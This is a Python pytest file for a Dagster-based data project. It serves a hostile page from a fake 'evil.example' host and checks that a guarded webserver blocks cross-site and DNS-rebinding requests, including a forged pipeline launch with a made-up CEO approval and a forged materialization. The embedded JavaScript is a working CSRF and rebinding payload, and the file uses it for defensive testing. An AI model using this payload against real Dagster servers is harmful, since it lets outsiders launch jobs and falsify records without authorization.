"""A hostile page in the operator's browser starts nothing, approves nothing and shows nothing of the UI."""

import http.server
import json
import shutil
import threading
import time

import dagster as dg
import pytest

from fl_assets_tests.browser.conftest import CHROMIUM, QUIET, needs_chromium, serving
from fl_assets_tests.conftest import LAST_DAY

EVIL, REBOUND = "evil.example", "rebound.example"
RESOLVE = f"--host-resolver-rules=MAP {EVIL} 127.0.0.1, MAP {REBOUND} 127.0.0.1"
WAYS = ("image", "form", "fetch", "socket", "rebound")
"""Of reaching the webserver; each sets a limit of its own name, which shows what got through."""
MUTATIONS = {way: f'mutation {{ setConcurrencyLimit(concurrencyKey: "{way}", limit: 1) }}' for way in WAYS}
LAUNCH = (
    """mutation L($p: ExecutionParams!) { launchPipelineExecution(executionParams: $p) { __typename } }"""
)
EXECUTION = {
    "selector": {
        "repositoryLocationName": "fl_assets.definitions",
        "repositoryName": "__repository__",
        "pipelineName": "apply_updates",
    },
    "runConfigData": {
        "ops": {"applied_updates": {"config": {"approve": ["0"], "by": "CEO", "reason": "it is urgent"}}}
    },
    "mode": "default",
    "executionMetadata": {"tags": [{"key": "dagster/partition", "value": str(LAST_DAY)}]},
}
PAGE = """<!doctype html><title>kittens</title><body>
<script>
const ui = "UI", asked = MUTATIONS, launch = LAUNCH, done = [];
const address = query => ui + "/graphql?query=" + encodeURIComponent(query);
const launching = ui + "/graphql?query=" + encodeURIComponent(launch.query)
    + "&variables=" + encodeURIComponent(JSON.stringify(launch.variables));
const image = source => new Promise(end => {
    const img = new Image(); img.onload = img.onerror = end; img.src = source; document.body.append(img); });
const form = (action, type, text) => new Promise(end => {
    const frame = document.createElement("iframe"); frame.name = "f" + Math.random(); frame.onload = end;
    document.body.append(frame);
    const one = document.createElement("form");
    Object.assign(one, {action, method: "POST", enctype: type, target: frame.name});
    const field = document.createElement("input"); field.name = text; field.value = '"}'; one.append(field);
    document.body.append(one); one.submit(); });
const quietly = (address, options) => fetch(address, {mode: "no-cors", ...options}).catch(() => null);
const socket = query => new Promise(end => {
    const one = new WebSocket(ui.replace("http", "ws") + "/graphql", "graphql-ws");
    one.onclose = one.onerror = end;
    one.onopen = () => {
        one.send(JSON.stringify({type: "connection_init"}));
        one.send(JSON.stringify({id: "1", type: "start", payload: {query}}));
        setTimeout(end, 1000); }; });
(async () => {
    const json = JSON.stringify({query: asked.fetch}), body = JSON.stringify(launch);
    const plain = {"Content-Type": "text/plain"};
    await image(address(asked.image)); await image(launching);
    await form(address(asked.form), "application/x-www-form-urlencoded", "x");
    await form(ui + "/graphql", "text/plain", '{"query":' + JSON.stringify(asked.form) + ',"x":"');
    await form(launching, "multipart/form-data", "x");
    await quietly(address(asked.fetch), {method: "POST", headers: plain, body: json});
    await quietly(ui + "/graphql", {method: "POST", headers: plain, body});
    const blob = new Blob([json], {type: "text/plain; application/json"});
    await quietly(ui + "/graphql", {method: "POST", body: blob});
    const asJson = {"Content-Type": "application/json"};
    await quietly(ui + "/graphql", {method: "POST", mode: "cors", headers: asJson, body});
    await quietly(ui + "/report_asset_materialization/raw_traces?description=forged", {method: "POST"});
    await socket(asked.socket);
    const frame = document.createElement("iframe"); frame.id = "framed"; frame.src = ui + "/asset-groups";
    await new Promise(end => { frame.onload = end; document.body.append(frame); });
    document.title = "done";
})();
</script>"""


@pytest.fixture(scope="module")
def attacker():
    """A browser in which two foreign names lead to this machine, as after DNS rebinding."""
    needs_chromium()
    sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed: make setup")
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=[*QUIET, RESOLVE])
        yield browser
        browser.close()


@pytest.fixture
def hostile():
    """A function that serves the hostile page against a UI, under a foreign name; it returns the address."""

    class Handler(http.server.BaseHTTPRequestHandler):
        page = b""

        def do_GET(self):
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(Handler.page)

        def log_message(self, *_):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()

    def aimed_at(ui: str) -> str:
        launch = {"query": LAUNCH, "variables": {"p": EXECUTION}}
        page = PAGE.replace('"UI"', json.dumps(ui)).replace("= MUTATIONS", "= " + json.dumps(MUTATIONS))
        Handler.page = page.replace("= LAUNCH", "= " + json.dumps(launch)).encode()
        return f"http://{EVIL}:{server.server_port}/"

    yield aimed_at
    server.shutdown()
    server.server_close()


@pytest.fixture
def own_home(home, tmp_path):
    """A copy of the home, since an attack that gets through changes it."""
    path, environment = home
    shutil.copytree(path.parent, tmp_path / "data")
    moved = {
        name: value.replace(str(path.parent), str(tmp_path / "data")) for name, value in environment.items()
    }
    return tmp_path / "data" / "dagster", moved


def visit(attacker, hostile, ui: str) -> str:
    """Open the hostile page, then the UI under a rebound name.

    Return what the frame with the UI in it shows.
    """
    context = attacker.new_context()
    page = context.new_page()
    page.goto(hostile(ui))
    page.wait_for_function("document.title === 'done'", timeout=60_000)
    frame = page.query_selector("#framed").content_frame()
    shown = frame.evaluate("document.body ? document.body.innerHTML : ''") if frame else ""
    page.goto(ui.replace("127.0.0.1", REBOUND))
    page.evaluate(
        """body => fetch("/graphql", {method: "POST", headers: {"Content-Type": "application/json"}, body})
            .then(answer => answer.text()).catch(String)""",
        json.dumps({"query": MUTATIONS["rebound"]}),
    )
    context.close()
    return shown


def got_through(home: str) -> set[str]:
    """Return what the attacks changed in a home.

    Ways in, `run` for a launched run, `event` for a forged one.
    """
    time.sleep(1)
    with dg.DagsterInstance.from_config(home) as instance:
        found = set(instance.event_log_storage.get_concurrency_keys())
        forged = instance.fetch_materializations(dg.AssetKey("raw_traces"), limit=1).records
        if instance.get_runs(filters=dg.RunsFilter(job_name="apply_updates")):
            found.add("run")
        if forged and forged[0].asset_materialization.description == "forged":
            found.add("event")
    return found


def test_a_page_that_is_merely_visited_gets_nothing_through(attacker, hostile, own_home, tmp_path):
    home, environment = own_home
    with serving(environment, tmp_path, module="fl_assets.cli.webserver") as ui:
        framed = visit(attacker, hostile, ui)
    assert got_through(str(home)) == set()
    assert "root" not in framed


def test_the_same_page_gets_through_to_a_webserver_without_the_guard(attacker, hostile, own_home, tmp_path):
    home, environment = own_home
    with serving(environment, tmp_path) as ui:
        framed = visit(attacker, hostile, ui)
    assert {"image", "form", "fetch", "rebound", "run", "event"} <= got_through(str(home)), (
        "the page is no attack"
    )
    assert "root" in framed
